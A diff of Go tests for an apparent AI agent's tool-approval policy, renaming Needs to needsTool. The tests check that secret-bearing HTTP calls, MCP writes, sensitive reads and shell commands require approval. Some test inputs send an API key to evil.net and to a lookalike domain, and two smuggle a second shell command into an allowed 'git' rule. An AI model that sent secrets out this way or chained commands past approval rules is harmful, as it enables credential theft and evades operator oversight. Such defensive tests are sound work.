@@ -40,7 +40,7 @@ func TestNeedsHTTPMethods(t *testing.T) {
 		{`not json`, true},
 	}
 	for _, tt := range tests {
-		v := Needs(httpCall(tt.args), Policy{})
+		v := needsTool(httpCall(tt.args), Policy{})
 		require.Equal(t, tt.ask, v.Ask, tt.args)
 		if v.Ask {
 			require.NotEmpty(t, v.Reasons, tt.args)
@@ -48,13 +48,13 @@ func TestNeedsHTTPMethods(t *testing.T) {
 			require.Equal(t, DecisionNotNeeded, v.Decision)
 		}
 	}
-	v := Needs(httpCall(`{"url":"https://x.com/","method":"POST"}`), Policy{})
+	v := needsTool(httpCall(`{"url":"https://x.com/","method":"POST"}`), Policy{})
 	require.Equal(t, []string{`it sends an HTTP "POST"`}, v.Reasons)
 }
 
 func TestNeedsSecrets(t *testing.T) {
 	get := `{"url":"https://api.example.com/v1?key={{secret:API_KEY}}"}`
-	v := Needs(httpCall(get), Policy{AutoApprove: true})
+	v := needsTool(httpCall(get), Policy{AutoApprove: true})
 	require.True(t, v.Ask, "a GET that sends a secret asks, even with auto_approve")
 	require.True(t, v.Always)
 	require.Equal(t, []string{"it sends secret API_KEY to api.example.com"}, v.Reasons)
@@ -65,43 +65,43 @@ func TestNeedsSecrets(t *testing.T) {
 		`{"url":"https://api.example.com/","body":"{\"k\":\"{{secret:API_KEY}}\"}"}`,
 		`{"url":"https://api.example.com/","body":"\u007b\u007bsecret:API_KEY}}"}`,
 	} {
-		require.True(t, Needs(httpCall(args), Policy{}).Ask, args)
+		require.True(t, needsTool(httpCall(args), Policy{}).Ask, args)
 	}
 
 	allow := Rule{Tool: "http_request", Pattern: "GET https://api.example.com/*", Secret: "API_KEY"}
-	v = Needs(httpCall(get), Policy{Rules: []Rule{allow}})
+	v = needsTool(httpCall(get), Policy{Rules: []Rule{allow}})
 	require.False(t, v.Ask)
 	require.Equal(t, DecisionRule, v.Decision)
 	require.Equal(t, []Rule{allow}, v.Rules)
 
 	// The allowance is for that secret, that host, that method.
-	require.True(t, Needs(httpCall(`{"url":"https://evil.net/?k={{secret:API_KEY}}"}`), Policy{Rules: []Rule{allow}}).Ask)
-	require.True(t, Needs(httpCall(`{"url":"https://api.example.com.evil.net/?k={{secret:API_KEY}}"}`), Policy{Rules: []Rule{allow}}).Ask)
-	require.True(t, Needs(httpCall(`{"url":"https://api.example.com/?k={{secret:OTHER}}"}`), Policy{Rules: []Rule{allow}}).Ask)
-	require.True(t, Needs(httpCall(`{"url":"https://api.example.com/?k={{secret:API_KEY}}&o={{secret:OTHER}}"}`), Policy{Rules: []Rule{allow}}).Ask)
+	require.True(t, needsTool(httpCall(`{"url":"https://evil.net/?k={{secret:API_KEY}}"}`), Policy{Rules: []Rule{allow}}).Ask)
+	require.True(t, needsTool(httpCall(`{"url":"https://api.example.com.evil.net/?k={{secret:API_KEY}}"}`), Policy{Rules: []Rule{allow}}).Ask)
+	require.True(t, needsTool(httpCall(`{"url":"https://api.example.com/?k={{secret:OTHER}}"}`), Policy{Rules: []Rule{allow}}).Ask)
+	require.True(t, needsTool(httpCall(`{"url":"https://api.example.com/?k={{secret:API_KEY}}&o={{secret:OTHER}}"}`), Policy{Rules: []Rule{allow}}).Ask)
 	post := `{"url":"https://api.example.com/v1","method":"POST","body":"{{secret:API_KEY}}"}`
-	require.True(t, Needs(httpCall(post), Policy{Rules: []Rule{allow}}).Ask, "a POST needs its own approval")
+	require.True(t, needsTool(httpCall(post), Policy{Rules: []Rule{allow}}).Ask, "a POST needs its own approval")
 	postRule := Rule{Tool: "http_request", Pattern: "POST https://api.example.com/*"}
-	require.True(t, Needs(httpCall(post), Policy{Rules: []Rule{postRule}}).Ask, "a rule for the POST does not allow the secret")
+	require.True(t, needsTool(httpCall(post), Policy{Rules: []Rule{postRule}}).Ask, "a rule for the POST does not allow the secret")
 	anyMethod := Rule{Tool: "http_request", Pattern: "* https://api.example.com/*", Secret: "API_KEY"}
-	v = Needs(httpCall(post), Policy{Rules: []Rule{postRule, anyMethod}})
+	v = needsTool(httpCall(post), Policy{Rules: []Rule{postRule, anyMethod}})
 	require.False(t, v.Ask)
 	require.Equal(t, []Rule{postRule, anyMethod}, v.Rules)
 	exact := Rule{Tool: "http_request", Args: post}
-	require.False(t, Needs(httpCall(post), Policy{Rules: []Rule{exact}}).Ask, "an exact approval covers its secrets")
-	require.True(t, Needs(httpCall(post), Policy{AutoApprove: true}).Ask)
+	require.False(t, needsTool(httpCall(post), Policy{Rules: []Rule{exact}}).Ask, "an exact approval covers its secrets")
+	require.True(t, needsTool(httpCall(post), Policy{AutoApprove: true}).Ask)
 }
 
 func TestNeedsMCP(t *testing.T) {
 	hinted := Call{Tool: "mcp_fs_delete", Args: `{}`, ReadOnly: true, MCP: true}
-	v := Needs(hinted, Policy{})
+	v := needsTool(hinted, Policy{})
 	require.True(t, v.Ask, "a server's own readOnlyHint never skips approval")
 	require.Contains(t, v.Reasons[0], "trust_read_only_hints")
 	hinted.TrustReadOnlyHints = true
-	require.False(t, Needs(hinted, Policy{}).Ask, "the operator trusts the server")
+	require.False(t, needsTool(hinted, Policy{}).Ask, "the operator trusts the server")
 	trustedWriter := Call{Tool: "mcp_fs_write", Args: `{}`, MCP: true, TrustReadOnlyHints: true}
-	require.True(t, Needs(trustedWriter, Policy{}).Ask)
-	require.Equal(t, DecisionAuto, Needs(trustedWriter, Policy{AutoApprove: true}).Decision)
+	require.True(t, needsTool(trustedWriter, Policy{}).Ask)
+	require.Equal(t, DecisionAuto, needsTool(trustedWriter, Policy{AutoApprove: true}).Decision)
 }
 
 func TestNeedsSensitiveReads(t *testing.T) {
@@ -112,40 +112,40 @@ func TestNeedsSensitiveReads(t *testing.T) {
 	} {
 		c := Call{Tool: "read_files", Args: args, ReadOnly: true}
 		allTurn := Policy{AutoApprove: true, Rules: []Rule{{Tool: "read_files", Pattern: "**"}, {Tool: "read_files", Args: args}}}
-		v := Needs(c, allTurn)
+		v := needsTool(c, allTurn)
 		require.True(t, v.Ask, args)
 		require.True(t, v.Always, args)
 		require.Empty(t, v.Decision)
 	}
-	require.False(t, Needs(Call{Tool: "read_files", Args: `{"paths":["main.go","docs/keys.md"]}`, ReadOnly: true}, Policy{}).Ask)
-	v := Needs(Call{Tool: "read_files", Args: `{"paths":["main.go"]}`, ReadOnly: true, Sensitive: true}, Policy{AutoApprove: true})
+	require.False(t, needsTool(Call{Tool: "read_files", Args: `{"paths":["main.go","docs/keys.md"]}`, ReadOnly: true}, Policy{}).Ask)
+	v := needsTool(Call{Tool: "read_files", Args: `{"paths":["main.go"]}`, ReadOnly: true, Sensitive: true}, Policy{AutoApprove: true})
 	require.True(t, v.Ask && v.Always, "the tool's own Sensitive check counts too")
 }
 
 func TestNeedsRulesAndAutoApprove(t *testing.T) {
 	git := Call{Tool: "run_command", Args: cmdArgs("git status")}
-	v := Needs(git, Policy{})
+	v := needsTool(git, Policy{})
 	require.True(t, v.Ask)
 	require.False(t, v.Always)
 	require.Equal(t, []string{"it runs a shell command"}, v.Reasons)
 
 	rules := cmdRules("git *")
-	v = Needs(git, Policy{Rules: rules})
+	v = needsTool(git, Policy{Rules: rules})
 	require.False(t, v.Ask)
 	require.Equal(t, DecisionRule, v.Decision)
 	require.Equal(t, rules, v.Rules)
-	require.True(t, Needs(Call{Tool: "run_command", Args: cmdArgs("git status; touch X")}, Policy{Rules: rules}).Ask)
-	require.True(t, Needs(Call{Tool: "run_command", Args: cmdArgs("git $(touch X)")}, Policy{Rules: rules}).Ask)
+	require.True(t, needsTool(Call{Tool: "run_command", Args: cmdArgs("git status; touch X")}, Policy{Rules: rules}).Ask)
+	require.True(t, needsTool(Call{Tool: "run_command", Args: cmdArgs("git $(touch X)")}, Policy{Rules: rules}).Ask)
 
-	require.Equal(t, DecisionAuto, Needs(git, Policy{AutoApprove: true}).Decision)
-	require.True(t, Needs(git, Policy{AutoApprove: true, DenyAutoApprove: true}).Ask, "AUTO_APPROVE=deny")
-	require.Equal(t, DecisionRule, Needs(git, Policy{AutoApprove: true, DenyAutoApprove: true, Rules: rules}).Decision)
+	require.Equal(t, DecisionAuto, needsTool(git, Policy{AutoApprove: true}).Decision)
+	require.True(t, needsTool(git, Policy{AutoApprove: true, DenyAutoApprove: true}).Ask, "AUTO_APPROVE=deny")
+	require.Equal(t, DecisionRule, needsTool(git, Policy{AutoApprove: true, DenyAutoApprove: true, Rules: rules}).Decision)
 
-	require.Equal(t, DecisionNotNeeded, Needs(Call{Tool: "write_todo", Args: `{}`, ConfirmNever: true}, Policy{}).Decision)
-	require.Equal(t, DecisionNotNeeded, Needs(Call{Tool: "calculate", Args: `{}`, ReadOnly: true}, Policy{}).Decision)
-	require.Equal(t, []string{`it changes "a.go"`}, Needs(Call{Tool: "edit_file", Args: `{"path":"a.go","new_text":""}`}, Policy{}).Reasons)
-	require.Equal(t, []string{`it removes "a.go"`}, Needs(Call{Tool: "remove_file", Args: `{"path":"a.go"}`}, Policy{}).Reasons)
-	require.True(t, Needs(Call{Tool: "remove_file", Args: `{"path":"a.go"}`}, Policy{Rules: []Rule{{Tool: "edit_file", Pattern: "**"}}}).Ask)
+	require.Equal(t, DecisionNotNeeded, needsTool(Call{Tool: "write_todo", Args: `{}`, ConfirmNever: true}, Policy{}).Decision)
+	require.Equal(t, DecisionNotNeeded, needsTool(Call{Tool: "calculate", Args: `{}`, ReadOnly: true}, Policy{}).Decision)
+	require.Equal(t, []string{`it changes "a.go"`}, needsTool(Call{Tool: "edit_file", Args: `{"path":"a.go","new_text":""}`}, Policy{}).Reasons)
+	require.Equal(t, []string{`it removes "a.go"`}, needsTool(Call{Tool: "remove_file", Args: `{"path":"a.go"}`}, Policy{}).Reasons)
+	require.True(t, needsTool(Call{Tool: "remove_file", Args: `{"path":"a.go"}`}, Policy{Rules: []Rule{{Tool: "edit_file", Pattern: "**"}}}).Ask)
 }
 
 func TestSensitivePath(t *testing.T) {
